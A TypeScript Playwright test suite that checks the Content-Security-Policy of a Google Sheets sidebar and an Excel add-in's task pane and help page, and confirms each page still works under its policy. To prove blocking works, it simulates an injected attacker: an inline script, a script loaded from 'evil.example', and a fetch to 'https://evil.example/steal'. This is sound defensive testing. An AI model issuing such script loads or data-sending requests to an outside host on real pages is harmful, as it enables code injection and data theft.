/**
 * Every page the add-ins show carries a Content-Security-Policy that allows only
 * what the page needs: Sidebar.html its own inline script and style (by hash),
 * the task pane its own files and office.js from Microsoft's CDN, the help page
 * nothing. Each is loaded in headless Chromium to show that the page still works
 * under its policy and that anything else is refused.
 */
import { createHash } from 'node:crypto';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type Browser, type Page, chromium } from 'playwright-core';
import { startDevServer } from '../office-addin/dev-server';
import { OFFICE_JS_URL } from '../office-addin/build/pages';
import { TERRITORY_WORKER } from '../sidebar/territory/runner';
import { builtFile } from './support/apps-script-load';
import { OFFICE_ADDIN_DIST, distFile } from './support/excel-custom-functions';
import { readFileSync } from 'node:fs';

/** The policy a page declares in its <meta http-equiv="Content-Security-Policy">, directive by directive. */
function metaPolicy(html: string): Record<string, string[]> {
  const metas = [...html.matchAll(/<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)"\s*\/?>/gi)];
  expect(metas).toHaveLength(1);
  // Before anything it governs: the policy applies only to what is parsed after it.
  const head = html.slice(0, metas[0].index);
  expect(head).not.toMatch(/<(script|style|link|base)\b/i);
  return Object.fromEntries(
    metas[0][1]
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .filter((words) => words[0])
      .map(([name, ...values]) => [name, values]),
  );
}

const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;

let browser: Browser;
beforeAll(async () => {
  browser = await chromium.launch({ executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium', args: ['--no-sandbox'] });
});
afterAll(() => browser?.close());

/** Records CSP violations (which directive blocked what) in window.__violations; runs before the page's own code. */
const RECORD_VIOLATIONS =
  "window.__violations = []; document.addEventListener('securitypolicyviolation', function (e) { window.__violations.push(e.effectiveDirective + ' ' + e.blockedURI); });";

/** Collects the page's CSP violations and its errors. */
async function watch(page: Page): Promise<{ violations: () => Promise<string[]>; errors: string[] }> {
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(error.message));
  await page.addInitScript(RECORD_VIOLATIONS);
  return { violations: () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations), errors };
}

/** The page loaded with no violation or error, and an injected attacker's three tries were all blocked. */
async function expectCleanThenBlocked(page: Page, watched: { violations: () => Promise<string[]>; errors: string[] }): Promise<void> {
  expect(await watched.violations()).toEqual([]);
  expect(watched.errors).toEqual([]);
  expect(await attempts(page)).toEqual([]);
  expect((await watched.violations()).map((v) => v.split(' ')[0])).toEqual(['script-src-elem', 'script-src-elem', 'connect-src']);
}

/** Tries what an injected attacker would: an inline script, a script from elsewhere, a request. Returns what ran. */
async function attempts(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const ran: string[] = [];
    (window as unknown as { __ran: (what: string) => void }).__ran = (what) => ran.push(what);
    const inline = document.createElement('script');
    inline.textContent = '__ran("inline script")';
    document.body.append(inline);
    const remote = document.createElement('script');
    remote.src = 'https://evil.example/x.js';
    await new Promise<void>((resolve) => {
      remote.onload = remote.onerror = () => resolve();
      document.body.append(remote);
    });
    await fetch('https://evil.example/steal').then(
      () => ran.push('fetch'),
      () => undefined,
    );
    return ran;
  });
}

describe('Sidebar.html (Google Sheets)', () => {
  const html = builtFile('Sidebar.html');

  it('allows its one inline script and style by hash, a worker from a blob URL, and nothing else', () => {
    const policy = metaPolicy(html);
    const script = /<script>([\s\S]*?)<\/script>/.exec(html)![1];
    const style = /<style>([\s\S]*?)<\/style>/.exec(html)![1];
    expect(policy).toEqual({
      'default-src': ["'none'"],
      'script-src': [sha256(script)],
      'worker-src': ['blob:'],
      'style-src': [sha256(style)],
      'base-uri': ["'none'"],
      'form-action': ["'none'"],
    });
    expect(html).not.toMatch(/unsafe-inline|unsafe-eval/);
  });

  it('runs under its policy, with google.script.run provided from outside the page, runs a territory scenario in a blob worker, and refuses anything injected', async () => {
    const page = await browser.newPage();
    try {
      // HtmlService provides google.script before the page's own script runs; a stub does the same here.
      const stub = `<script>window.google = { script: { run: {}, host: { close: function () {} } } }; ${RECORD_VIOLATIONS}</script>`;
      const { violations, errors } = await watch(page);
      await page.route('https://evil.example/**', (route) => route.fulfill({ body: '__ran("remote script")', contentType: 'text/javascript' }));
      await page.setContent(html.replace('<head>', `<head>${stub}`));
      await page.waitForSelector('[role="tab"]', { timeout: 5000 });
      const styled = await page.evaluate(() => getComputedStyle(document.body).marginTop);
      expect(styled).toBe('0px');
      // The territory designer runs its 60 example accounts in a worker started from a blob URL, and can be cancelled.
      const workers: string[] = [];
      page.on('worker', (worker) => workers.push(worker.url().split(':')[0]));
      const card = page.locator('[data-template="territory"]');
      await card.getByRole('button', { name: 'Run' }).click();
      await card.locator('.so-territory-view [data-figure="gini"]').waitFor({ timeout: 15_000 });
      expect(workers).toEqual(['blob']);
      await expectCleanThenBlocked(page, { violations, errors });
    } finally {
      await page.close();
    }
  });
});

describe('the Excel task pane and help page', () => {
  let server: Server;
  let base: string;
  beforeAll(async () => {
    distFile('taskpane.html');
    server = await startDevServer({ root: OFFICE_ADDIN_DIST, port: 0 });
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('taskpane.html allows scripts from itself and office.js\'s CDN only, its own stylesheet, and nothing else', () => {
    const policy = metaPolicy(readFileSync(distFile('taskpane.html'), 'utf8'));
    expect(policy).toEqual({
      'default-src': ["'none'"],
      'script-src': ["'self'", 'https://appsforoffice.microsoft.com'],
      'style-src': ["'self'"],
      'base-uri': ["'none'"],
      'form-action': ["'none'"],
    });
    expect(OFFICE_JS_URL.startsWith('https://appsforoffice.microsoft.com/')).toBe(true);
  });

  it('taskpane.html loads office.js, its scripts and stylesheet under the policy and refuses anything else', async () => {
    const page = await browser.newPage();
    try {
      const { violations, errors } = await watch(page);
      const fetched: string[] = [];
      // office.js as the CDN would serve it, with just enough Office and Excel to start the sidebar.
      await page.route('https://appsforoffice.microsoft.com/**', (route) => {
        fetched.push(route.request().url());
        return route.fulfill({
          contentType: 'text/javascript',
          body: 'window.Office = { context: { displayLanguage: "en-US" }, onReady: function (cb) { setTimeout(cb, 0); return Promise.resolve(); } }; window.Excel = { run: function () { return Promise.reject(new Error("no workbook")); } };',
        });
      });
      await page.route('https://evil.example/**', (route) => route.fulfill({ body: '__ran("remote script")', contentType: 'text/javascript' }));
      await page.goto(`${base}/taskpane.html`);
      await page.waitForSelector('#app [role="tab"]', { timeout: 5000 });
      expect(fetched).toEqual([OFFICE_JS_URL]);
      expect(await page.evaluate(() => document.styleSheets.length)).toBeGreaterThan(0);
      // The territory designer's worker starts beside the page (script-src 'self') and runs the 60 example accounts across 4 territories.
      const counts = await page.evaluate(
        (file) =>
          new Promise((resolve, reject) => {
            const worker = new Worker(file);
            worker.onerror = (event) => reject(new Error(event.message));
            worker.onmessage = (event) => {
              if ('result' in event.data) resolve(event.data.result.accountCounts);
              if ('error' in event.data) reject(new Error(event.data.error));
            };
            worker.postMessage({ values: { accounts: null, measures: null, by: 'count', count: 4, reps: null, tolerance: 0.05 } });
          }),
        TERRITORY_WORKER,
      );
      expect(counts).toEqual([15, 15, 15, 15]);
      await expectCleanThenBlocked(page, { violations, errors });
    } finally {
      await page.close();
    }
  });

  it('help.html may load nothing at all, and shows its text', async () => {
    expect(metaPolicy(readFileSync(distFile('help.html'), 'utf8'))).toEqual({
      'default-src': ["'none'"],
      'base-uri': ["'none'"],
      'form-action': ["'none'"],
    });
    const page = await browser.newPage();
    try {
      const { violations } = await watch(page);
      await page.goto(`${base}/help.html`);
      expect(await page.locator('h1').textContent()).toBe('SalesOps Formulas');
      expect(await violations()).toEqual([]);
      expect(await attempts(page)).toEqual([]);
    } finally {
      await page.close();
    }
  });
});
